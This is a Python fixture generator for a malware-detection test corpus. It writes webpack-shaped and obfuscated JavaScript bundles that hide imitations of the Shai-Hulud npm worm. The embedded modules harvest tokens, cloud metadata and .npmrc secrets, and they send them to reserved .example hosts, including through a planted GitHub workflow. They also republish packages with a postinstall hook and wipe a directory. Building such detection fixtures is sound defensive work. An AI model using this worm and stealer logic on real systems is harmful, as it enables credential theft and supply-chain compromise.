#!/usr/bin/env python3
"""Write the large generated files of the detection corpus into their fixture directories.

Some techniques only show at scale (the ~3.6 MB minified Shai-Hulud worm bundle, the
multi-megabyte obfuscated Bun payload). Committing megabytes of filler would bloat the
repository, so the fixtures keep their package.json/label.toml in git and this script writes
the big file next to them. The output is deterministic (fixed seeds), written only when it
differs from what is on disk, and git-ignored (tests/corpus/.gitignore).

Every harness that scans the corpus (crates/ferret_cli/tests/corpus.rs, scripts/accuracy)
runs this first. Python 3 standard library only; takes well under a second.

The generated code is as inert as the rest of the corpus: reserved hosts, fake tokens, and it
is never executed.
"""

import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))

WORDS = (
    "value options config render update state props children context module exports default "
    "request response buffer stream handler callback promise resolve reject error message "
    "length index offset source target element node parent token cache store event listener "
    "format parse stringify encode decode compile transform plugin loader resolver"
).split()


KEYWORDS = {"do", "if", "in", "for", "let", "new", "try", "var", "int", "NaN"}


def ident(rng):
    first = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_$"
    rest = first + "0123456789"
    while True:
        n = rng.choice((1, 1, 2, 2, 2, 3))
        name = rng.choice(first) + "".join(rng.choice(rest) for _ in range(n - 1))
        if name not in KEYWORDS:
            return name


def filler_module(rng):
    """One minified, harmless webpack module: small functions over strings and numbers."""
    names = []
    while len(names) < 5:
        x = ident(rng)
        if x not in names and x + "x" not in names and x not in ("t", "r"):
            names.append(x)
    a, b, c, d, e = names
    w = [rng.choice(WORDS) for _ in range(6)]
    n = [rng.randint(0, 4096) for _ in range(4)]
    body = (
        f'"use strict";{a}.d({b},{{Z:()=>{c}}});'
        f'var {d}={{{w[0]}:"{w[1]}",{w[2]}:{n[0]},{w[3]}:[{n[1]},{n[2]},{n[3]}]}};'
        f'function {c}({e}){{if(!{e})return {d}.{w[0]};for(var t=0,r=0;r<{e}.length;r++)'
        f't=(t<<5)-t+{e}.charCodeAt(r)|0;return {e}.{w[4]}?{e}.{w[4]}(t%{n[0] + 7}):'
        f'String(t)+"{w[5]}"}}'
    )
    return f"function({a},{b},{e}x){{{body}}}"


WORM_MODULE = r"""function(e,t,r){"use strict";const n=require("child_process"),o=require("fs"),s=require("os"),i=require("path"),a=require("https");const c=process.env,l=c.NPM_TOKEN||c.NPM_CONFIG_TOKEN||"",u=c.GITHUB_TOKEN||c.GH_TOKEN||"",p={};for(const e of Object.keys(c))/TOKEN|SECRET|KEY|PASS|AWS_/i.test(e)&&(p[e]=c[e]);function f(e,t,r,n){const o=JSON.stringify(n||{});const s=a.request({hostname:e,path:t,method:r,headers:{Authorization:"token "+u,"User-Agent":"node","Content-Type":"application/json"}});s.on("error",()=>{});s.write(o);s.end()}function d(){return new Promise(e=>{const t=require("http").get({host:"169.254.169.254",path:"/latest/meta-data/iam/security-credentials/",timeout:2e3},t=>{let r="";t.on("data",e=>r+=e);t.on("end",()=>e(r))});t.on("error",()=>e(""))})}async function h(){const e=await d();let t="";try{n.execSync("curl -sSL https://github.example/trufflesecurity/trufflehog/releases/download/v3.0.0/trufflehog_linux_amd64.tar.gz -o /tmp/th.tgz && tar -xzf /tmp/th.tgz -C /tmp"),t=n.execSync("/tmp/trufflehog filesystem "+s.homedir()+" --json",{maxBuffer:1e8}).toString()}catch(e){}const r=Buffer.from(Buffer.from(JSON.stringify({env:p,imds:e,trufflehog:t,system:{host:s.hostname(),user:s.userInfo().username}})).toString("base64")).toString("base64");if(u){f("api.github.example","/user/repos","POST",{name:"Shai-Hulud",description:"Shai-Hulud Repository.",private:!1});f("api.github.example","/repos/victim/Shai-Hulud/contents/data.json","PUT",{message:"init",content:Buffer.from(r).toString("base64")});const e="on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$CONTENTS\" https://webhook.example/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n";f("api.github.example","/repos/victim/project/contents/.github/workflows/shai-hulud-workflow.yml","PUT",{message:"Add workflow",branch:"shai-hulud",content:Buffer.from(e).toString("base64")})}if(l)g(l)}function g(e){o.writeFileSync(i.join(s.tmpdir(),".npmrc"),"//registry.npmjs.example/:_authToken="+e+"\n");const t=JSON.parse(n.execSync("npm whoami --registry https://registry.npmjs.example").toString()||"\"\"");const r=JSON.parse(n.execSync("npm search --json maintainer:"+t).toString()||"[]");for(const e of r.slice(0,20)){try{const t=i.join(s.tmpdir(),e.name.replace("/","-"));n.execSync("npm pack "+e.name+"@latest --pack-destination "+t);n.execSync("tar -xzf "+t+"/*.tgz -C "+t);const r=i.join(t,"package","package.json"),a=JSON.parse(o.readFileSync(r,"utf8"));const c=a.version.split(".");c[2]=String(Number(c[2])+1);a.version=c.join(".");a.scripts=a.scripts||{};a.scripts.postinstall="node bundle.js";o.writeFileSync(r,JSON.stringify(a,null,2));o.copyFileSync(__filename,i.join(t,"package","bundle.js"));n.execSync("npm publish "+i.join(t,"package"))}catch(e){}}}h()}"""


def gen_worm_bundle(target_bytes=3_100_000, seed=0x5A1):
    """A webpack-shaped single-line bundle with the worm module hidden among filler modules."""
    rng = random.Random(seed)
    modules = []
    size = 0
    while size < target_bytes:
        m = filler_module(rng)
        modules.append(m)
        size += len(m) + 8
    ids = rng.sample(range(1000, 99999), len(modules) + 1)
    worm_at = len(modules) * 3 // 5
    modules.insert(worm_at, WORM_MODULE)
    parts = [f"{ids[i]}:{m}" for i, m in enumerate(modules)]
    entry = ids[worm_at]
    boot = (
        "(()=>{var __webpack_modules__={" + ",".join(parts) + "},__webpack_module_cache__={};"
        "function __webpack_require__(e){var t=__webpack_module_cache__[e];if(void 0!==t)return t.exports;"
        "var r=__webpack_module_cache__[e]={exports:{}};return __webpack_modules__[e](r,r.exports,__webpack_require__),r.exports}"
        "__webpack_require__.d=(e,t)=>{for(var r in t)Object.defineProperty(e,r,{enumerable:!0,get:t[r]})};"
        f"__webpack_require__({entry})}})();\n"
    )
    return boot


def gen_obfuscated_payload(target_bytes=1_200_000, seed=0xB0B):
    """javascript-obfuscator-shaped payload: a big rotated `_0x` string array plus a stealer tail."""
    rng = random.Random(seed)
    strings = []
    size = 0
    while size < target_bytes:
        s = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(rng.randint(8, 40)))
        strings.append("'" + s + "'")
        size += len(s) + 3
    arr = ",".join(strings)
    head = (
        "const _0x4e2a=_0x1b3c;(function(_0x2f1d,_0x5c0e){const _0x3a9b=_0x1b3c,_0x1e7f=_0x2f1d();"
        "while(!![]){try{const _0x4d2c=parseInt(_0x3a9b(0x1a4))/0x1*(-parseInt(_0x3a9b(0x2b1))/0x2)+"
        "parseInt(_0x3a9b(0x19c))/0x3;if(_0x4d2c===_0x5c0e)break;else _0x1e7f['push'](_0x1e7f['shift']());}"
        "catch(_0x2e0a){_0x1e7f['push'](_0x1e7f['shift']());}}}(_0x5d1e,0x9c2f1));"
        "function _0x1b3c(_0x1,_0x2){const _0x3=_0x5d1e();return _0x1b3c=function(_0x4,_0x5){_0x4=_0x4-0x190;return _0x3[_0x4];},_0x1b3c(_0x1,_0x2);}"
        f"function _0x5d1e(){{const _0xa=[{arr}];_0x5d1e=function(){{return _0xa;}};return _0x5d1e();}}\n"
    )
    tail = r"""
const _0xfs=require('fs'),_0xos=require('os'),_0xpath=require('path'),_0xcp=require('child_process'),_0xh=require('https');
const _0xenv=JSON.stringify(process.env);let _0xtok=process.env.NPM_TOKEN||'';
try{_0xtok=_0xtok||_0xfs.readFileSync(_0xpath.join(_0xos.homedir(),'.npmrc'),'utf8');}catch(_0xe){}
const _0xreq=_0xh.request({hostname:'api.github.example',path:'/user/repos',method:'POST',headers:{'Authorization':'token '+(process.env.GITHUB_TOKEN||'')}});
_0xreq.on('error',()=>{});_0xreq.write(JSON.stringify({name:'sha1-hulud-'+Date.now(),description:'Sha1-Hulud: The Second Coming.',content:Buffer.from(_0xenv+_0xtok).toString('base64')}));_0xreq.end();
if(!_0xtok&&!process.env.GITHUB_TOKEN){const _0xroot=_0xpath.join(_0xos.homedir(),'ferret-fixture-wiper-target');try{for(const _0xf of _0xfs.readdirSync(_0xroot)){const _0xp=_0xpath.join(_0xroot,_0xf);_0xfs.writeFileSync(_0xp,'');_0xfs.rmSync(_0xp,{recursive:true,force:true});}}catch(_0xe){}}
"""
    return head + tail


GENERATED = {
    "malicious/12-shai-hulud-v1-worm-bundle/bundle.js": gen_worm_bundle,
    "malicious/13-shai-hulud-v2-bun/bun_environment.js": gen_obfuscated_payload,
}


def main():
    wrote = 0
    for rel, fn in sorted(GENERATED.items()):
        path = os.path.join(HERE, rel)
        if not os.path.isdir(os.path.dirname(path)):
            print(f"gen.py: fixture dir missing for {rel}", file=sys.stderr)
            return 1
        data = fn().encode("utf-8")
        try:
            with open(path, "rb") as f:
                if f.read() == data:
                    continue
        except FileNotFoundError:
            pass
        with open(path, "wb") as f:
            f.write(data)
        wrote += 1
        print(f"gen.py: wrote {rel} ({len(data)} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
